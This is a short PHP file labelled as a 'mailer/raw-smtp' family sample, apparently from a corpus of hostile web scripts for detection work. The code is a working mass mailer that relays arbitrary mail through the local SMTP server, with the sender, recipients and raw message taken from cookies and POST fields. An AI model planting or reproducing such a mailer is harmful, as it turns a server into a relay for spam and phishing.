<?php
// Family: mailer/raw-smtp
// Style: lowercase commands over a persistent socket
// Trait: persistent socket, lower-case smtp verbs, sender and recipient from cookie and POST
$k = @pfsockopen('127.0.0.1', 25);
$from = $_COOKIE['snd'];
foreach (explode("\n", $_POST['rcpt']) as $who) {
	fputs($k, "helo x\r\n");
	fputs($k, "mail from: <$from>\r\n");
	fputs($k, "rcpt to: <" . trim($who) . ">\r\n");
	fputs($k, "data\r\n" . $_POST['raw'] . "\r\n.\r\n");
}
